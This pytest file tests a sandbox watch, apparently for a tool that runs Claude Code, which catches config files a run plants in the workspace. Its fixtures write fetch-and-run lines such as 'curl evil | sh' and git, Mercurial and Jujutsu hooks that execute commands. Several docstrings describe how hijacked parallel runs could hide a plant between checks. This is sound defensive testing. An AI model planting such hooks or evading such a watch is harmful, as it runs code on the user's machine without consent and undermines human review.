"""Protected workspace files: fingerprints and what changed, the read-only mounts they get, and the watch that
records a run's changes for review, killed runs included."""

from __future__ import annotations

import fcntl
import hashlib
import os
import re
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from claude_bottle import trust
from claude_bottle import workspace as ws
from claude_bottle.errors import ConfigError
from claude_bottle.runtime.docker_values import docker_mount
from claude_bottle.runtime.files import Protection, protective_mounts


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    path = tmp_path / "project"
    (path / ".git" / "hooks").mkdir(parents=True)
    (path / ".git" / "config").write_text("[core]\n")
    (path / "src").mkdir()
    (path / "src" / "main.py").write_text("print('hi')\n")
    return path


def changed(before: dict[str, str], after: dict[str, str]) -> list[str]:
    return [c.path for c in ws.changes(before, after)]


def test_untouched_workspace_has_no_changes_and_ordinary_files_are_not_watched(project: Path) -> None:
    before = ws.fingerprint(project)
    (project / "src" / "main.py").write_text("print('changed')\n")
    (project / "notes.txt").write_text("x")
    assert ws.changes(before, ws.fingerprint(project)) == []


@pytest.mark.parametrize("plant", [
    lambda p: (p / ".envrc").write_text("curl evil | sh\n"),
    lambda p: ((p / ".vscode").mkdir(), (p / ".vscode/tasks.json").write_text("{}")),
    lambda p: ((p / ".claude").mkdir(), (p / ".claude/settings.json").write_text('{"hooks": {}}')),
    lambda p: (p / ".claude/commands").mkdir(parents=True),
    lambda p: (p / ".git/hooks/post-checkout").write_text("#!/bin/sh\n"),
    lambda p: (p / ".git/commondir").write_text("/tmp/evil\n"),
    lambda p: (p / ".git/config").write_text("[core]\n\tfsmonitor = touch /tmp/owned\n"),
    lambda p: ((p / "src/vendor/.git").mkdir(parents=True), (p / "src/vendor/.git/config").write_text("[core]\n")),
    lambda p: (p / "src/.git").write_text("gitdir: /tmp/evil\n"),
    lambda p: (p / ".mcp.json").symlink_to("/etc/passwd"),
    lambda p: ((p / ".hg").mkdir(), (p / ".hg/hgrc").write_text("[hooks]\npre-status = touch /tmp/owned\n")),
    lambda p: ((p / ".jj/repo").mkdir(parents=True),
               (p / ".jj/repo/config.toml").write_text('[ui]\npager = ["sh", "-c", "touch /tmp/owned"]\n')),
    lambda p: (p / ".hgsub").write_text("vendor = [git]ext::sh -c touch% /tmp/owned\n"),
    lambda p: ((p / "src/vendor/.hg").mkdir(parents=True)),
    lambda p: ((p / "src/.jj").mkdir(parents=True)),
])
def test_each_planted_file_is_a_change(project: Path, plant: object) -> None:
    before = ws.fingerprint(project)
    plant(project)  # type: ignore[operator]
    assert ws.changes(before, ws.fingerprint(project)), "the plant went unnoticed"


@pytest.mark.parametrize("plant", [
    lambda p: (p / "packages/app/.claude").mkdir(parents=True) or
    (p / "packages/app/.claude/settings.json").write_text('{"hooks": {}}'),
    lambda p: (p / "packages/app/.mcp.json").write_text('{"mcpServers": {}}'),
    lambda p: (p / "packages/app/.vscode").mkdir(parents=True) or (p / "packages/app/.vscode/tasks.json").write_text("{}"),
    lambda p: (p / "packages/app/.envrc").write_text("curl x | sh\n"),
    lambda p: (p / "packages/app/.claude").symlink_to("/etc"),
], ids=["claude-settings", "mcp", "vscode", "envrc", "claude-symlink"])
def test_a_config_planted_below_the_top_is_a_change_and_is_not_mounted(project: Path, plant: object) -> None:
    """Claude Code, an editor or direnv started in a subfolder (a monorepo's package) reads that folder's
    configs: below the top they are watched (a mount there would pin what npm must replace)."""
    (project / "packages/app").mkdir(parents=True)
    before = ws.fingerprint(project)
    plant(project)  # type: ignore[operator]
    assert [p for p in changed(before, ws.fingerprint(project)) if p.startswith("packages/app/")], "unnoticed"
    assert not [p for p in ws.protected_paths(project).mounted if p.startswith("packages/")]


def test_a_config_below_the_top_edited_is_a_change(project: Path) -> None:
    (project / "packages/app/.claude").mkdir(parents=True)
    (project / "packages/app/.claude/settings.json").write_text("{}")
    before = ws.fingerprint(project)
    assert "packages/app/.claude/settings.json" in before
    (project / "packages/app/.claude/settings.json").write_text('{"hooks": {"SessionStart": []}}')
    assert changed(before, ws.fingerprint(project)) == ["packages/app/.claude/settings.json"]


def test_a_changed_file_a_mode_and_a_replaced_repository_are_changes(project: Path) -> None:
    (project / ".envrc").write_text("export A=1\n")
    before = ws.fingerprint(project)
    (project / ".envrc").write_text("export A=2\n")
    assert changed(before, ws.fingerprint(project)) == [".envrc"]
    before = ws.fingerprint(project)
    (project / ".envrc").chmod(0o755)
    assert changed(before, ws.fingerprint(project)) == [".envrc"]
    before = ws.fingerprint(project)
    os.rename(project / ".git", project / "old-git")
    (project / ".git").mkdir()
    assert ".git" in changed(before, ws.fingerprint(project))


def test_a_symlinked_parent_is_a_change_and_is_never_followed(project: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "commands").mkdir(parents=True)
    (elsewhere / "settings.json").write_text("{}")
    before = ws.fingerprint(project)
    (project / ".claude").symlink_to(elsewhere)
    after = ws.fingerprint(project)
    assert changed(before, after) == [".claude"] and after[".claude"] == f"symlink to {str(elsewhere)!r}"
    assert ws.lstat_inside(project, ".claude/settings.json") is not None
    assert ws.lstat_inside(project, ".claude/settings.json")[0] == ".claude"  # type: ignore[index]


def test_a_repository_signs_only_what_runs_code(project: Path) -> None:
    before = ws.fingerprint(project)
    (project / ".git" / "index").write_bytes(b"DIRC")
    (project / ".git" / "objects").mkdir()
    assert ws.changes(before, ws.fingerprint(project)) == [], "commits on the host are not a bottle's plant"


def test_mercurial_and_jujutsu_repositories_sign_only_what_runs_code(project: Path) -> None:
    """Mercurial runs .hg/hgrc's hooks before any command; Jujutsu runs what .jj/repo/config.toml names (its
    pager on `jj log`), and a secondary workspace's .jj/repo is a file naming the repository."""
    (project / ".hg" / "store" / "data").mkdir(parents=True)
    (project / ".hg" / "hgrc").write_text("[paths]\n")
    (project / ".jj" / "repo" / "store").mkdir(parents=True)
    (project / ".jj" / "working_copy").mkdir()
    (project / "vendor" / ".jj").mkdir(parents=True)
    (project / "vendor" / ".jj" / "repo").write_text("../../.jj/repo")
    before = ws.fingerprint(project)
    assert {".hg/hgrc", ".jj", "vendor/.jj/repo"} <= before.keys()
    (project / ".hg" / "store" / "data" / "main.py.i").write_bytes(b"\0")
    (project / ".jj" / "working_copy" / "tree_state").write_bytes(b"\0")
    (project / ".jj" / "repo" / "store" / "extra").write_bytes(b"\0")
    assert changed(before, ws.fingerprint(project)) == [], "commits on the host are not a bottle's plant"
    (project / ".hg" / "hgrc").write_text("[hooks]\npre-status = touch /tmp/owned\n")
    (project / ".jj" / "repo" / "config.toml").write_text('[fix.tools.x]\ncommand = ["touch", "/tmp/owned"]\n')
    (project / "vendor" / ".jj" / "repo").write_text("/tmp/evil/repo")
    assert changed(before, ws.fingerprint(project)) == [".hg/hgrc", ".jj/repo/config.toml", "vendor/.jj/repo"]
    mounts = {p.target for p in protective_mounts(project, ws.protected_paths(project).mounted)}
    assert {"/workspace/.hg", "/workspace/.jj", "/workspace/vendor/.jj"} <= mounts


def test_nested_git_walk_is_bounded_and_a_full_walk_turning_partial_is_a_change(project: Path) -> None:
    (project / "a" / "b" / ".git").mkdir(parents=True)
    assert ws.nested(project) == (["a/b/.git"], [], True, [])
    assert ws.nested(project, limit=3).complete is False
    before = ws.fingerprint(project)
    for i in range(30):
        (project / f"pad{i}").mkdir()
    original = ws.WALK_LIMIT
    try:
        ws.WALK_LIMIT = 20
        after = ws.fingerprint(project)
    finally:
        ws.WALK_LIMIT = original
    assert ws.WALK_KEY in changed(before, after)


def test_symlinked_directories_are_not_walked(project: Path, tmp_path: Path) -> None:
    (tmp_path / "outside" / ".git").mkdir(parents=True)
    (project / "link").symlink_to(tmp_path / "outside")
    assert ws.nested(project) == ([], [], True, ["link"])


# ---- mounts ------------------------------------------------------------------------------------------------

def test_existing_directories_and_files_are_mounted_read_only_symlinks_never(project: Path, tmp_path: Path) -> None:
    (project / ".vscode").mkdir()
    (project / ".envrc").write_text("")
    (project / ".mcp.json").symlink_to(tmp_path)
    (project / ".claude").symlink_to(tmp_path)  # a symlinked parent: .claude/settings.json is not the host's
    (tmp_path / "settings.json").write_text("{}")
    paths = ws.protected_paths(project).mounted
    mounts = {p.target: p.source for p in protective_mounts(project, paths)}
    assert mounts == {"/workspace/.git": project / ".git", "/workspace/.vscode": project / ".vscode",
                      "/workspace/.envrc": project / ".envrc"}
    assert all(docker_mount(m.mount())["ReadOnly"] for m in protective_mounts(project, paths))


def test_a_missing_git_gets_an_empty_read_only_file_system(project: Path) -> None:
    subprocess.run(["rm", "-rf", str(project / ".git")], check=True)
    (protection,) = protective_mounts(project, ws.PROTECTED)
    assert protection == Protection("/workspace/.git", None)
    mount = docker_mount(protection.mount())
    assert mount["Type"] == "tmpfs" and mount["ReadOnly"] is True


def test_a_gitfile_is_mounted_and_nested_repositories_too(project: Path) -> None:
    subprocess.run(["rm", "-rf", str(project / ".git")], check=True)
    (project / ".git").write_text("gitdir: /somewhere/.git/worktrees/x\n")
    (project / "vendor" / "lib" / ".git").mkdir(parents=True)
    paths = ws.protected_paths(project).mounted
    assert {p.target for p in protective_mounts(project, paths)} == {"/workspace/.git", "/workspace/vendor/lib/.git"}


@pytest.mark.parametrize("make", ["symlink", "fifo"])
def test_a_git_that_is_neither_a_directory_nor_a_file_is_refused(project: Path, tmp_path: Path, make: str) -> None:
    subprocess.run(["rm", "-rf", str(project / ".git")], check=True)
    if make == "symlink":
        (project / ".git").symlink_to(tmp_path / "config")
    else:
        os.mkfifo(project / ".git")
    with pytest.raises(ConfigError, match=r"\.git is (a symlink|neither)"):
        protective_mounts(project, ws.PROTECTED)


# ---- the watch ---------------------------------------------------------------------------------------------

def plant_bare_repository(folder: Path, canary: Path) -> None:
    """What a bottle can write with no .git entry: git takes ``folder`` itself for a repository (HEAD, objects/,
    refs/) and runs its config's core.fsmonitor on `git status`, which a shell prompt runs at every `cd`."""
    (folder / "HEAD").write_text("ref: refs/heads/main\n")
    (folder / "objects").mkdir()
    (folder / "refs").mkdir()
    (folder / "config").write_text("[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n"
                                   f'\tfsmonitor = "touch {canary}; false"\n')


@pytest.mark.parametrize("where", ["", "src"], ids=["workspace-without-git", "folder-of-a-repository"])
def test_a_repository_planted_without_a_git_entry_is_reported(project: Path, tmp_path: Path, where: str) -> None:
    if not where:  # a workspace that is no repository: the run mounts an empty read-only .git, removed after
        shutil.rmtree(project / ".git")
    canary = tmp_path / "ran"
    watch = trust.Watch(project, "t-bare")
    watch.begin()
    if not where:
        (project / ".git").mkdir()
    plant_bare_repository(project / where, canary)
    reports: list[str] = []
    found = [c.path for c in watch.end(reports.append)]
    home = tmp_path / "home"
    home.mkdir()
    subprocess.run(["git", "status"], cwd=project / where, capture_output=True, check=False,
                   env={"PATH": os.environ["PATH"], "HOME": str(home), "GIT_CONFIG_NOSYSTEM": "1"})
    assert canary.exists(), "the host's git ran what the plant said: the plant is real"
    assert f"{where}/config".lstrip("/") in found and f"{where}/HEAD".lstrip("/") in found, found
    with pytest.raises(ConfigError, match="config: created"):
        trust.check(project)


def test_a_run_that_changed_nothing_leaves_nothing_to_review(project: Path) -> None:
    watch = trust.Watch(project, "t-1")
    watch.begin()
    assert watch.end(print) == []
    trust.check(project)
    assert not list((trust.workspace_state_dir(project) / "runs").iterdir())


def test_a_run_s_changes_are_reported_and_block_the_workspace_until_reviewed(project: Path) -> None:
    reports: list[str] = []
    watch = trust.Watch(project, "t-2")
    watch.begin()
    (project / ".envrc").write_text("curl evil | sh\n")
    assert [c.path for c in watch.end(reports.append)] == [".envrc"]
    assert "can run code on your machine" in reports[0] and ".envrc" in reports[0]
    with pytest.raises(ConfigError, match=rf"(?s)\.envrc: created.*claude-bottle trust {project}"):
        trust.check(project)
    trust.clear_review(project, trust.unreviewed(project))
    trust.check(project)


def test_a_planted_name_cannot_forge_a_line_of_the_report(project: Path) -> None:
    """A newline in a name the bottle chose would start what looks like another entry ("nothing else
    changed"), or an escape rewrite the screen: each change stays one line, its control characters shown."""
    reports: list[str] = []
    watch = trust.Watch(project, "t-6")
    watch.begin()
    (project / "docs\n  (claude-bottle: nothing else changed)\x1b[2J").mkdir()
    (project / "docs\n  (claude-bottle: nothing else changed)\x1b[2J" / ".envrc").write_text("x")
    assert len(watch.end(reports.append)) == 1
    (entry,) = [line for line in reports[0].splitlines() if line.startswith("  ")]
    assert entry.startswith("  docs\\n  (claude-bottle: nothing else changed)\\x1b[2J/.envrc: created")
    with pytest.raises(ConfigError) as refused:
        trust.check(project)
    assert "\x1b" not in str(refused.value) and "docs\\n  (claude-bottle" in str(refused.value)


def test_edits_between_runs_are_not_flagged(project: Path) -> None:
    watch = trust.Watch(project, "t-3")
    watch.begin()
    watch.end(print)
    (project / ".envrc").write_text("the user's own\n")
    trust.check(project)


def test_a_killed_run_is_compared_at_the_next_start(project: Path) -> None:
    # a run in another process that dies without its after-check: its record is unlocked by its death
    script = ("import os, sys; from pathlib import Path; from claude_bottle import trust; "
              "w = trust.Watch(Path(sys.argv[1]), 'killed'); w.begin(); "
              "(Path(sys.argv[1]) / '.envrc').write_text('planted'); os._exit(9)")
    subprocess.run([sys.executable, "-c", script, str(project)], check=False, env=dict(os.environ))
    with pytest.raises(ConfigError, match=r"\.envrc: created"):
        trust.check(project)
    with pytest.raises(ConfigError, match=r"\.envrc: created"):
        trust.check(project)  # it stays pending until reviewed


def test_a_run_that_ends_as_the_next_start_looks_at_it_is_left_to_itself(
        project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The start opens the run's record, the run ends (its record removed, its lock let go), the start locks
    the record: the run has checked itself, and the start goes on."""
    watch = trust.Watch(project, "t-ending")
    watch.begin()
    (project / ".envrc").write_text("planted")
    lock = fcntl.flock

    def flock(fd: object, operation: int) -> None:
        if watch._lock is not None and operation & fcntl.LOCK_NB:
            assert [c.path for c in watch.end(lambda _: None)] == [".envrc"]
        lock(fd, operation)  # type: ignore[arg-type]

    monkeypatch.setattr(fcntl, "flock", flock)
    assert [c.path for c in trust.unreviewed(project)] == [".envrc"]


def test_a_run_in_progress_is_left_to_check_itself(project: Path) -> None:
    watch = trust.Watch(project, "t-4")
    watch.begin()
    (project / ".envrc").write_text("planted")
    trust.check(project)  # another start meanwhile: the run is alive, its record locked
    assert [c.path for c in watch.end(print)] == [".envrc"]


def test_two_runs_cannot_hide_a_planted_file_between_their_checks(project: Path) -> None:
    """Parallel runs on one workspace, both hijacked: the first plants .envrc, the second starts with it there,
    the first removes it before its own check and the second puts it back before its own. Each run alone saw no
    change from its start; the second compares with the workspace as it was before the first's bottle ran."""
    first = trust.Watch(project, "t-hider")
    first.begin()
    (project / ".envrc").write_text("curl evil | sh\n")
    second = trust.Watch(project, "t-keeper")
    second.begin()
    (project / ".envrc").unlink()
    assert first.end(print) == []
    (project / ".envrc").write_text("curl evil | sh\n")
    reports: list[str] = []
    assert [c.path for c in second.end(reports.append)] == [".envrc"]
    assert "before it during another run that it started beside" in reports[0]
    with pytest.raises(ConfigError, match=r"\.envrc: created"):
        trust.check(project)


def test_a_run_that_starts_beside_another_still_takes_the_first_start_as_its_own(project: Path) -> None:
    """Runs that overlap in a chain (the first ends before the third starts, the second spans both) all compare
    with the workspace before the first began; and one that starts alone begins afresh."""
    first, second, third = (trust.Watch(project, f"t-chain-{n}") for n in range(3))
    first.begin()
    (project / ".envrc").write_text("planted\n")
    second.begin()
    (project / ".envrc").unlink()
    assert first.end(print) == []
    third.begin()
    (project / ".envrc").write_text("planted\n")
    assert [c.path for c in third.end(print)] == [".envrc"]
    assert [c.path for c in second.end(print)] == [".envrc"]
    trust.clear_review(project, trust.unreviewed(project))
    alone = trust.Watch(project, "t-alone")
    alone.begin()
    assert alone.end(print) == [], "the user's reviewed state is where a run with no other beside it begins"


def test_a_run_killed_beside_another_is_compared_with_the_first_one_s_start(project: Path) -> None:
    """The same pass of a planted file, the second run killed (SIGKILL: no check of its own at its end): the
    next start compares its record, which holds the first run's start."""
    first = trust.Watch(project, "t-hider")
    first.begin()
    (project / ".envrc").write_text("curl evil | sh\n")
    script = ("import os, sys; from pathlib import Path; from claude_bottle import trust; "
              "w = trust.Watch(Path(sys.argv[1]), 'killed'); w.begin(); "
              "(Path(sys.argv[1]) / '.envrc').unlink(); sys.stdin.readline(); "
              "(Path(sys.argv[1]) / '.envrc').write_text('curl evil | sh\\n'); os._exit(9)")
    second = subprocess.Popen([sys.executable, "-c", script, str(project)], stdin=subprocess.PIPE, text=True,
                              env=dict(os.environ))
    deadline = time.monotonic() + 30
    while (project / ".envrc").exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    assert first.end(print) == []
    second.communicate("go\n", timeout=30)
    with pytest.raises(ConfigError, match=r"\.envrc: created"):
        trust.check(project)


@pytest.mark.parametrize("first, second, planted", [
    ("", "pkg", "pkg/sub/.envrc"),  # the monorepo's run plants in the package, the package's run keeps it
    ("pkg", "", "pkg/.envrc"),  # the package's run plants at its top, the monorepo's run keeps it
    ("pkg", "", "pkg/sub/.vscode/tasks.json"),
    ("", "pkg", "pkg/sub/.git/config"),
])
def test_runs_on_nested_workspaces_cannot_hide_a_planted_file_between_their_checks(
        project: Path, first: str, second: str, planted: str) -> None:
    """The same pass of a planted file between a run on a workspace and one on a folder inside it (a monorepo
    and its package, at once): the second compares each path both watch with the first's start."""
    (project / planted).parent.mkdir(parents=True)
    hider, keeper = trust.Watch(project / first, "t-hider"), trust.Watch(project / second, "t-keeper")
    hider.begin()
    (project / planted).write_text("curl evil | sh\n")
    keeper.begin()
    (project / planted).unlink()
    assert hider.end(print) == []
    (project / planted).write_text("curl evil | sh\n")
    reports: list[str] = []
    seen = (project / planted).relative_to(project / second).as_posix()
    assert seen in [c.path for c in keeper.end(reports.append)]
    assert "another run that it started beside (on this folder, one holding it or one inside it)" in reports[0]
    with pytest.raises(ConfigError, match=re.escape(f"{seen}: created")):
        trust.check(project / second)


def test_a_bare_repository_laid_out_in_a_nested_workspace_cannot_be_passed_between_checks(project: Path) -> None:
    (project / "pkg/sub").mkdir(parents=True)
    outer, inner = trust.Watch(project, "t-outer"), trust.Watch(project / "pkg", "t-inner")
    bare = {"HEAD": "ref: refs/heads/main\n", "config": "[core]\n\tfsmonitor = touch /tmp/owned\n"}

    def lay_out() -> None:
        for folder in ("objects", "refs"):
            (project / "pkg/sub" / folder).mkdir()
        for name, text in bare.items():
            (project / "pkg/sub" / name).write_text(text)

    outer.begin()
    lay_out()
    inner.begin()
    subprocess.run(["rm", "-rf", *(str(project / "pkg/sub" / name) for name in ("objects", "refs", *bare))],
                   check=True)
    assert outer.end(print) == []
    lay_out()
    assert {"sub/HEAD", "sub/config"} <= {c.path for c in inner.end(print)}


@pytest.mark.parametrize("first_inside", [True, False])
def test_what_only_one_of_two_nested_workspaces_watches_is_not_flagged_by_the_other(
        project: Path, first_inside: bool) -> None:
    """A package's .husky and .gitmodules are protected at its top and not below the monorepo's: a run on one
    beside a run on the other takes from the other's start only what both watch, so files that stayed as they
    were are not flagged, whichever began first. A .husky/HEAD is not a bare repository's HEAD."""
    (project / "pkg/.husky").mkdir(parents=True)
    for name in ("pre-commit", "HEAD", "config"):
        (project / "pkg/.husky" / name).write_text("npm test\n")
    (project / "pkg/.gitmodules").write_text("[submodule]\n")
    (project / "pkg/.envrc").write_text("export A=1\n")
    inner, outer = trust.Watch(project / "pkg", "t-inner"), trust.Watch(project, "t-outer")
    first, second = (inner, outer) if first_inside else (outer, inner)
    first.begin()
    second.begin()
    assert second.beside
    assert second.end(print) == []
    assert first.end(print) == []


def test_a_package_run_beside_a_monorepo_run_whose_search_stopped_short_keeps_its_own_start_there(
        project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A large monorepo's search stops before the package's configs: its start does not say they were not
    there, so the package's run does not flag them."""
    (project / "node_modules").mkdir()
    for n in range(30):
        (project / "node_modules" / f"m{n}").mkdir()
    (project / "pkg/sub").mkdir(parents=True)
    (project / "pkg/sub/.envrc").write_text("export A=1\n")
    monkeypatch.setattr(ws, "WALK_LIMIT", 20)
    outer = trust.Watch(project, "t-outer")
    outer.begin()
    monkeypatch.setattr(ws, "WALK_LIMIT", 100_000)
    inner = trust.Watch(project / "pkg", "t-inner")
    inner.begin()
    assert inner.beside and inner.end(print) == []


def test_a_run_beside_one_on_a_folder_next_to_it_begins_alone(project: Path) -> None:
    (project / "pkg").mkdir()
    (project / "other").mkdir()
    first, second = trust.Watch(project / "pkg", "t-pkg"), trust.Watch(project / "other", "t-other")
    first.begin()
    second.begin()
    assert not second.beside
    assert second.end(print) == [] and first.end(print) == []


def test_a_package_run_s_empty_git_is_neither_flagged_nor_taken_from_the_monorepo_run_s_bottle(
        project: Path) -> None:
    """A package without .git gets an empty read-only .git, for which the engine makes an empty folder on the
    host: a monorepo run ending meanwhile does not flag it (git takes an empty .git for none), and a package run
    ending while a monorepo run that began after it mounts it leaves it to that bottle."""
    (project / "pkg").mkdir()
    inner, outer = trust.Watch(project / "pkg", "t-inner"), trust.Watch(project, "t-outer")
    outer.begin()
    inner.begin()
    (project / "pkg/.git").mkdir()  # what the engine does on the host for the package bottle's mount
    assert outer.end(print) == []
    late = trust.Watch(project, "t-late")
    late.begin()  # its bottle mounts pkg/.git read-only, as a nested repository
    assert inner.end(print) == []
    assert (project / "pkg/.git").is_dir(), "the monorepo run's bottle is on it"
    assert late.end(print) == []


def test_a_change_you_approved_is_not_flagged_again_by_a_run_that_began_before_it(project: Path) -> None:
    """A long run (an interactive start) with queries started beside it: each compares with the long run's
    start, but what you approved since, as it is now, is not flagged again. A further change is."""
    long = trust.Watch(project, "t-long")
    long.begin()
    (project / ".envrc").write_text("export A=1\n")
    query = trust.Watch(project, "t-query")
    query.begin()
    assert [c.path for c in query.end(print)] == [".envrc"]
    trust.clear_review(project, trust.unreviewed(project))  # you looked at it, and approved it
    again = trust.Watch(project, "t-query-2")
    again.begin()
    assert again.end(print) == []
    (project / ".envrc").write_text("curl evil | sh\n")
    assert [c.path for c in long.end(print)] == [".envrc"]
    assert not (trust.workspace_state_dir(project) / trust.APPROVED).exists(), "kept while runs need it only"


def test_the_empty_git_directory_made_for_the_mount_is_removed(project: Path) -> None:
    subprocess.run(["rm", "-rf", str(project / ".git")], check=True)
    watch = trust.Watch(project, "t-5")
    watch.begin()
    (project / ".git").mkdir()  # what the engine does on the host for the read-only mount
    assert watch.end(print) == []
    assert not (project / ".git").exists()


def test_the_empty_git_directory_stays_while_another_run_on_the_workspace_has_it_mounted(project: Path) -> None:
    """Two runs on a workspace without .git: the second mounts the first's empty .git as a mount point. Removed
    on the host at the first run's end, the kernel would take the second bottle's read-only mount off it."""
    subprocess.run(["rm", "-rf", str(project / ".git")], check=True)
    first = trust.Watch(project, "t-first")
    first.begin()
    (project / ".git").mkdir()  # what the engine does on the host for the read-only mount
    second = trust.Watch(project, "t-second")
    second.begin()
    assert first.end(print) == []
    assert (project / ".git").is_dir(), "the second run's bottle is on it"
    assert second.end(print) == []
    assert not (project / ".git").exists(), "removed by the last run"


def test_a_killed_run_s_empty_git_directory_stays_while_another_run_has_it_mounted(project: Path) -> None:
    subprocess.run(["rm", "-rf", str(project / ".git")], check=True)
    script = ("import os, sys; from pathlib import Path; from claude_bottle import trust; "
              "w = trust.Watch(Path(sys.argv[1]), 'killed'); w.begin(); "
              "(Path(sys.argv[1]) / '.git').mkdir(); os._exit(9)")
    subprocess.run([sys.executable, "-c", script, str(project)], check=False, env=dict(os.environ))
    running = trust.Watch(project, "t-running")
    running.begin()
    trust.check(project)  # the next start compares the killed run, and leaves the running one's mount point
    assert (project / ".git").is_dir()
    assert running.end(print) == []
    assert not (project / ".git").exists()


def test_two_runs_ending_at_once_both_leave_their_changes_to_review(
        project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Parallel runs on one workspace: the second records its change while the first has read the pending ones
    and is about to write them with its own. Neither change is lost."""
    first, second = ws.Change(".envrc", None, "a"), ws.Change(".mcp.json", None, "b")
    read = trust.pending_review
    other = threading.Thread(target=trust._add_review, args=(project, [second]))

    def pending_review(workspace: Path) -> list[ws.Change]:
        found = read(workspace)
        if not other.is_alive() and other.ident is None:
            other.start()
            other.join(0.3)  # the other run's end, which waits for this one's write
        return found

    monkeypatch.setattr(trust, "pending_review", pending_review)
    trust._add_review(project, [first])
    other.join()
    assert read(project) == [first, second]


def test_a_link_out_of_an_earlier_workspace_is_not_followed_into_the_next(
        project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from claude_bottle.launch import workspace_of

    keys = tmp_path / "home" / ".ssh"
    keys.mkdir(parents=True)
    (project / "src" / "docs").symlink_to(keys)  # what a bottle may leave behind
    (project / "current").symlink_to(project / "src")
    watch = trust.Watch(project, "t-link")
    watch.begin()
    watch.end(lambda _: None)  # a run has been here
    monkeypatch.chdir(project / "src" / "docs")
    monkeypatch.setenv("PWD", str(project / "src" / "docs"))  # the shell followed the link
    with pytest.raises(ConfigError, match=rf"goes through {project}/src/docs, a symbolic link that leaves "
                                          rf"{project}.*pass --workspace {keys}"):
        workspace_of(None)
    with pytest.raises(ConfigError, match="a symbolic link that leaves"):
        workspace_of(str(project / "src" / "docs"))
    assert workspace_of(str(keys)) == keys  # named as itself, it is the user's choice
    assert workspace_of(str(project / "current")) == project / "src"  # a link that stays inside
    monkeypatch.setenv("PWD", "/elsewhere")  # a $PWD that is not the current directory is not read
    with pytest.raises(ConfigError, match=rf"{keys} is where {project}/src/docs leads, a symbolic link in "
                                          rf"{project}.*PWD={keys}"):
        workspace_of(None)  # and without it, nothing says the way here was not that link: an SDK's cwd
    monkeypatch.setenv("PWD", str(keys))
    assert workspace_of(None) == keys
    (tmp_path / "code").symlink_to(project)
    assert workspace_of(str(tmp_path / "code")) == project  # the way in to a workspace, from outside it


def test_links_out_of_a_workspace_are_remembered_as_its_runs_leave_them(
        project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A program that changes directory without setting $PWD (the TypeScript Agent SDK's cwd) says nothing of
    the way it came: a folder that a link out of a workspace where bottles ran leads to, or one inside it, is
    refused then. Links within the workspace, and links gone by the end of the last run, are not."""
    from claude_bottle.launch import workspace_of

    outside = tmp_path / "outside"
    (outside / "deeper").mkdir(parents=True)
    (tmp_path / "unrelated").mkdir()
    (project / "inside").mkdir()
    (project / "a" / "b").mkdir(parents=True)
    monkeypatch.setenv("PWD", "/elsewhere")
    watch = trust.Watch(project, "t-links")
    watch.begin()
    (project / "a" / "b" / "up").symlink_to("../../../outside")  # relative, out through ..
    (project / "a" / "near").symlink_to("b")  # stays
    (project / "a" / "in").symlink_to(project / "inside")  # absolute, but inside
    watch.end(lambda _: None)
    assert trust.planted_link_to(outside / "deeper") == (project / "a" / "b" / "up", project)
    for folder in (project / "inside", tmp_path / "unrelated", tmp_path):
        assert trust.planted_link_to(folder) is None, folder
    monkeypatch.chdir(outside / "deeper")
    with pytest.raises(ConfigError, match="a symbolic link in"):
        workspace_of(None)
    assert workspace_of(str(outside / "deeper")) == outside / "deeper", "named, it is the user's choice"
    watch = trust.Watch(project, "t-links-2")
    watch.begin()
    (project / "a" / "b" / "up").unlink()
    watch.end(lambda _: None)
    assert trust.planted_link_to(outside) is None
    assert workspace_of(None) == outside / "deeper"


def test_a_link_out_a_run_remembered_is_kept_by_a_start_that_walked_before_it_was_made(
        project: Path, tmp_path: Path) -> None:
    """A start walks the workspace, builds its images, then records the links it found: a run on the workspace
    that ended meanwhile remembered one made since, which stays remembered."""
    (tmp_path / "outside").mkdir()
    starting = trust.Watch(project, "t-starting")
    walked = ws.protected_paths(project)
    ending = trust.Watch(project, "t-ending")
    ending.begin()
    (project / "docs").symlink_to(tmp_path / "outside")  # made by the ending run's bottle
    ending.end(lambda _: None)
    starting.begin(walked)
    assert trust.planted_link_to(tmp_path / "outside") == (project / "docs", project)
    starting.end(lambda _: None)
    (project / "docs").unlink()
    trust.record_links_out(project, [])
    assert trust.planted_link_to(tmp_path / "outside") is None, "gone, forgotten"


def test_a_protected_directory_nested_deeper_than_python_recurses_is_reported(
        project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A bottle may create a protected directory that did not exist (its read-only mount is only where one
    did) and nest folders in it as deep as paths go: the run's check still reports it, and the next start
    still checks."""
    reports: list[str] = []
    watch = trust.Watch(project, "t-9")
    watch.begin()
    deep = project / ".vscode"
    deep.mkdir()
    monkeypatch.chdir(deep)  # one short name at a time: the whole path is longer than some calls take
    levels = sys.getrecursionlimit() + 100
    for _ in range(levels):
        os.mkdir("a")
        os.chdir("a")
    monkeypatch.chdir(project)
    try:
        assert ".vscode" in [c.path for c in watch.end(reports.append)]
        assert ".vscode: created" in reports[0]
        with pytest.raises(ConfigError, match=r"\.vscode: created"):
            trust.check(project)
    finally:
        os.chdir(deep / "/".join(["a"] * levels))
        for _ in range(levels):  # pytest's own clean-up recurses as deep
            os.chdir("..")
            os.rmdir("a")


def count_hashed(monkeypatch: pytest.MonkeyPatch, most: int | None = None) -> list[int]:
    """The bytes the fingerprint hashes, counted (in the list's one item); past ``most``, the test fails."""
    hashed = [0]

    class Counted:
        def __init__(self) -> None:
            self.digest = hashlib.sha256()

        def update(self, data: bytes) -> None:
            hashed[0] += len(data)
            assert most is None or hashed[0] <= most, "read past the size seen"
            self.digest.update(data)

        def hexdigest(self) -> str:
            return self.digest.hexdigest()

    monkeypatch.setattr(ws, "hashlib", SimpleNamespace(sha256=Counted))
    return hashed


